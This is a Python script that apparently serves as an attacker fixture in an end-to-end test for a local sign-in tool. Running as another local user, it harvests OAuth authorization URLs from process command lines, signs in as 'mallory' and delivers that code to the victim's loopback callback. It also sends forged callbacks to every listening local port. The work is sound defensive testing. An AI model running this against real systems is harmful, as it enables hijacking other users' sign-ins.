#!/usr/bin/python3
"""Another user of the machine trying to take over a sign-in in progress (issue 11).

Run as a different uid (the e2e test uses `setpriv` to nobody) with only
/usr/bin/python3 and this file. For --seconds it does what any local user can:

  * reads every process's command line (/proc/*/cmdline) looking for an
    authorization URL (it carries `state` and the loopback port), and for
    file:// pages, which it tries to read;
  * with a URL it found: signs in at the provider as $ATTACKER_LOGIN (mallory)
    through the provider's login and consent pages, and delivers the code it
    gets to the URL's 127.0.0.1:<port>/callback before the user's browser can;
  * in any case: finds every listening 127.0.0.1 port in /proc/net/tcp{,6}
    and sends each forged callbacks (with a state it found, and without).

Every step is one JSON line on stdout (the test's evidence that it ran and what
it got); the pages it was answered with are cut short. Stdlib only.
"""

import html.parser
import http.cookiejar
import json
import os
import re
import sys
import time
import urllib.error
import urllib.parse
import urllib.request

TIMEOUT = 20


def report(kind, **fields):
    print(json.dumps({"kind": kind, **fields}), flush=True)


class Page(html.parser.HTMLParser):
    """Forms (with their inputs), links and a meta refresh: enough for the
    provider's devInteractions pages and Sesame's redirect page."""

    def __init__(self):
        super().__init__()
        self.forms, self.links, self.refresh, self._form = [], [], None, None

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "form":
            self._form = {"action": a.get("action", ""), "method": (a.get("method") or "get").upper(), "fields": {}}
            self.forms.append(self._form)
        elif tag == "input" and self._form is not None and a.get("name"):
            self._form["fields"][a["name"]] = a.get("value") or ""
        elif tag == "a" and a.get("href"):
            self.links.append(a["href"])
        elif tag == "meta" and (a.get("http-equiv") or "").lower() == "refresh":
            m = re.match(r"\s*\d+\s*;\s*url\s*=\s*(.+)", a.get("content") or "", re.I)
            if m:
                self.refresh = m.group(1).strip()

    def handle_endtag(self, tag):
        if tag == "form":
            self._form = None


class NoRedirect(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, req, fp, code, msg, headers, newurl):
        return None


def fetch(opener, url, method="GET", data=None):
    req = urllib.request.Request(url, data=data, method=method)
    try:
        resp = opener.open(req, timeout=TIMEOUT)
    except urllib.error.HTTPError as e:
        resp = e
    status = resp.status if hasattr(resp, "status") else resp.code
    return status, resp.headers, resp.read().decode("utf-8", "replace")


def get(url):
    """One plain GET: (status, page) or (None, error)."""
    try:
        status, _, body = fetch(urllib.request.build_opener(NoRedirect()), url)
        return status, body[:600]
    except (urllib.error.URLError, OSError) as e:
        return None, str(e)


def is_callback(url):
    p = urllib.parse.urlsplit(url)
    return p.hostname == "127.0.0.1" and p.path == "/callback"


def sign_in_as(url, login):
    """Through the provider's pages as `login`, up to the redirect to the callback."""
    opener = urllib.request.build_opener(
        urllib.request.HTTPCookieProcessor(http.cookiejar.CookieJar()), NoRedirect())
    method, data = "GET", None
    for _ in range(30):
        status, headers, body = fetch(opener, url, method, data)
        method, data = "GET", None
        if status in (301, 302, 303, 307):
            nxt = urllib.parse.urljoin(url, headers["Location"])
            if is_callback(nxt):
                return nxt
            url = nxt
            continue
        page = Page()
        page.feed(body)
        form = next((f for f in page.forms if "prompt" in f["fields"]), None)
        if status != 200 or form is None:
            report("provider_page", status=status, page=body[:300])
            return None
        fields = dict(form["fields"])
        if fields["prompt"] == "login":
            fields.update(login=login, password="any-password")
        url = urllib.parse.urljoin(url, form["action"])
        method, data = form["method"], urllib.parse.urlencode(fields).encode()
    return None


def hijack(url, login):
    """Use a found authorization URL: sign in as `login`, deliver that code."""
    port = urllib.parse.urlsplit(dict(urllib.parse.parse_qsl(urllib.parse.urlsplit(url).query)).get("redirect_uri", "")).port
    try:
        callback = sign_in_as(url, login)
    except (urllib.error.URLError, OSError) as e:
        report("provider_unreachable", port=port, error=str(e))
        return
    if callback is None:
        return
    report("signed_in_at_provider", login=login, port=urllib.parse.urlsplit(callback).port)
    status, page = get(callback)
    report("delivered", port=urllib.parse.urlsplit(callback).port, status=status, page=page, login=login)


def command_lines():
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                args = f.read().split(b"\0")
        except OSError:
            continue
        yield int(pid), [a.decode("utf-8", "replace") for a in args if a]


def listening_loopback_ports():
    ports = set()
    for table, loopback in (("/proc/net/tcp", ("0100007F", "00000000")),
                            ("/proc/net/tcp6", ("0000000000000000FFFF00000100007F", "00000000000000000000000000000000"))):
        try:
            with open(table) as f:
                rows = f.read().splitlines()[1:]
        except OSError:
            continue
        for row in rows:
            fields = row.split()
            if len(fields) > 3 and fields[3] == "0A":  # LISTEN
                addr, port = fields[1].split(":")
                if addr in loopback:
                    ports.add(int(port, 16))
    return ports


def main():
    seconds = float(sys.argv[1]) if len(sys.argv) > 1 else 30
    login = os.environ.get("ATTACKER_LOGIN", "mallory")
    report("started", uid=os.getuid(), gid=os.getgid(), groups=os.getgroups())
    urls, pages, states, forged = set(), set(), set(), set()
    deadline = time.time() + seconds
    scans = 0
    while time.time() < deadline:
        scans += 1
        for pid, args in command_lines():
            for arg in args:
                if arg.startswith("http") and "state=" in arg and "redirect_uri=" in arg and arg not in urls:
                    urls.add(arg)
                    state = dict(urllib.parse.parse_qsl(urllib.parse.urlsplit(arg).query)).get("state")
                    states.add(state)
                    report("found_url", pid=pid, url=arg)
                    hijack(arg, login)
                elif arg.startswith("file://") and arg not in pages:
                    pages.add(arg)
                    path = urllib.parse.unquote(urllib.parse.urlsplit(arg).path)
                    try:
                        with open(path, encoding="utf-8") as f:
                            text = f.read()
                    except OSError as e:
                        report("page", pid=pid, path=path, readable=False, error=e.strerror)
                        continue
                    report("page", pid=pid, path=path, readable=True)
                    page = Page()
                    page.feed(text)
                    if page.refresh and page.refresh not in urls:
                        urls.add(page.refresh)
                        report("found_url", pid=pid, url=page.refresh)
                        hijack(page.refresh, login)
        for port in sorted(listening_loopback_ports()):
            for state in sorted(s for s in states if s) + [None]:
                if (port, state) in forged:
                    continue
                forged.add((port, state))
                query = {"code": "forged-by-another-user"}
                if state:
                    query["state"] = state
                for q in (query, {"error": "access_denied"}):
                    target = f"http://127.0.0.1:{port}/callback?{urllib.parse.urlencode(q)}"
                    status, page = get(target)
                    report("forged", port=port, with_state=bool(state), query=sorted(q), status=status, page=page)
        time.sleep(0.05)
    report("done", scans=scans, urls=len(urls), ports=len({p for p, _ in forged}))


if __name__ == "__main__":
    sys.exit(main())
